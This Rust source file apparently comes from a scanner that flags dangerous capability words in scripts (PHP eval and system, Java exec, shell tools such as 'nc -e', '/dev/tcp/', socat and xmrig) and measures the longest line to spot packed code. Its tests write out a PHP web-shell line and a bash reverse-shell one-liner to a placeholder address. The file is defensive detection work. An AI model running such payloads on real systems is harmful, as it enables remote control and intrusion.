//! Words in scripts that tell what a script can do: run commands, decode what it hides, take orders from a request, open
//! connections. Their presence is a fact, not a verdict: many good programs hold some.

/// A word, and whether it counts only as a call, before `(`.
struct Token {
    name: &'static str,
    /// In lower case.
    word: &'static [u8],
    is_call: bool,
}

const fn call(name: &'static str) -> Token {
    Token { name, word: name.as_bytes(), is_call: true }
}

const fn word(name: &'static str, word: &'static str) -> Token {
    Token { name, word: word.as_bytes(), is_call: false }
}

/// The words, as they stand in rows.
const TOKENS: [Token; 62] = [
    // PHP: running, decoding, what the request holds.
    call("assert"),
    call("base64_decode"),
    call("call_user_func"),
    call("create_function"),
    call("curl_exec"),
    call("eval"),
    call("exec"),
    call("fsockopen"),
    call("gzinflate"),
    call("gzuncompress"),
    call("include"),
    call("mail"),
    call("move_uploaded_file"),
    call("passthru"),
    call("pcntl_exec"),
    call("pfsockopen"),
    call("popen"),
    call("preg_replace"),
    call("proc_open"),
    call("shell_exec"),
    call("str_rot13"),
    call("system"),
    word("auto_prepend_file", "auto_prepend_file"),
    word("disable_functions", "disable_functions"),
    word("php://input", "php://input"),
    word("$_COOKIE", "$_cookie"),
    word("$_FILES", "$_files"),
    word("$_GET", "$_get"),
    word("$_POST", "$_post"),
    word("$_REQUEST", "$_request"),
    // Java and .NET.
    word("ClassLoader", "classloader"),
    word("defineClass", "defineclass"),
    word("getParameter", "getparameter"),
    word("ProcessBuilder", "processbuilder"),
    word("Runtime.getRuntime", "runtime.getruntime"),
    word("ScriptEngineManager", "scriptenginemanager"),
    word("Assembly.Load", "assembly.load"),
    word("FromBase64String", "frombase64string"),
    word("Process.Start", "process.start"),
    word("Request.Form", "request.form"),
    word("Request.Item", "request.item"),
    word("WScript.Shell", "wscript.shell"),
    call("ExecuteGlobal"),
    // Python, Perl, Node.
    word("child_process", "child_process"),
    word("os.popen", "os.popen"),
    word("os.system", "os.system"),
    word("pty.spawn", "pty.spawn"),
    word("socket.socket", "socket.socket"),
    word("subprocess", "subprocess"),
    // Shells, and what they fetch.
    word("/dev/tcp/", "/dev/tcp/"),
    word("base64 -d", "base64 -d"),
    word("base64 --decode", "base64 --decode"),
    word("bash -i", "bash -i"),
    word("chattr", "chattr"),
    word("chmod +x", "chmod +x"),
    word("crontab", "crontab"),
    word("curl", "curl"),
    word("LD_PRELOAD", "ld_preload"),
    word("nc -e", "nc -e"),
    word("socat", "socat"),
    word("wget", "wget"),
    word("xmrig", "xmrig"),
];

/// The words of [`TOKENS`] that `content` holds, each once, in their order. In capitals or not, as the languages take it.
pub fn tokens_in(content: &[u8]) -> Vec<&'static str> {
    let mut by_first: Vec<Vec<usize>> = vec![Vec::new(); 256];
    for (number, token) in TOKENS.iter().enumerate() {
        if let Some(bucket) =
            token.word.first().and_then(|byte| by_first.get_mut(usize::from(byte.to_ascii_lowercase())))
        {
            bucket.push(number);
        }
    }
    let mut found = [false; TOKENS.len()];
    let mut before = b' ';
    for (at, byte) in content.iter().enumerate() {
        let is_start = !is_of_word(before) || !is_of_word(*byte);
        before = *byte;
        let Some(bucket) = by_first.get(usize::from(byte.to_ascii_lowercase())).filter(|_| is_start) else { continue };
        for number in bucket {
            if let (Some(token), Some(found)) = (TOKENS.get(*number), found.get_mut(*number)) {
                *found = *found || content.get(at..).is_some_and(|there| token.is_at(there));
            }
        }
    }
    TOKENS.iter().zip(found).filter(|(_, found)| *found).map(|(token, _)| token.name).collect()
}

impl Token {
    fn is_at(&self, content: &[u8]) -> bool {
        let Some((there, after)) = content.split_at_checked(self.word.len()) else { return false };
        if !there.eq_ignore_ascii_case(self.word) {
            return false;
        }
        if self.is_call {
            return after.iter().find(|byte| !byte.is_ascii_whitespace()) == Some(&b'(');
        }
        let ends_in_word = self.word.last().is_some_and(|byte| is_of_word(*byte));
        !ends_in_word || after.first().is_none_or(|byte| !is_of_word(*byte))
    }
}

fn is_of_word(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || byte == b'_'
}

/// The longest line: what is packed or encoded has one that nobody wrote.
pub fn longest_line_bytes(content: &[u8]) -> u64 {
    content.split(|byte| *byte == b'\n').map(|line| line.len() as u64).max().unwrap_or(0)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_are_found_where_they_stand_alone() {
        let content = b"<?php @EVAL (base64_decode($_POST['x'])); // medieval(\n$f='system'; $y->my_exec(1); ?>";
        assert_eq!(tokens_in(content), ["base64_decode", "eval", "$_POST"]);
        assert_eq!(tokens_in(b"Runtime.getRuntime().exec(cmd)"), ["exec", "Runtime.getRuntime"]);
        assert_eq!(tokens_in(b"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1; curlew wget2"), ["/dev/tcp/", "bash -i"]);
        assert_eq!(tokens_in(b""), Vec::<&str>::new());
        assert_eq!(tokens_in(&vec![b'e'; 1 << 16]), Vec::<&str>::new());
        assert_eq!(longest_line_bytes(b"a\nbcd\n"), 3);
    }
}
